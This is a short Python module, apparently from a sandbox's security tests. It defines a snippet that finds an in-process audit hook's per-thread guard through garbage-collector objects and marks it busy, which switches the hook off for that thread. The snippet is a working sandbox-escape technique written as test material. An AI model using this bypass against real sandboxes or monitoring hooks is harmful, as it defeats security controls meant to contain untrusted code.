"""Code snippets shared by the attacks that first switch off the in-process audit hook.

``ESCAPE`` finds the hook's per-thread guard with ``gc.get_objects()`` and sets it busy, so
that the hook lets everything through in this thread (one of the four escapes the audit
hook had): from then on only the operating system's sandbox stands in the way.
"""

ESCAPE = """
import gc as _gc
import threading as _threading

for _obj in _gc.get_objects():
    if type(_obj) is _threading.local:
        try:
            _obj.busy = True
        except Exception:
            pass
"""
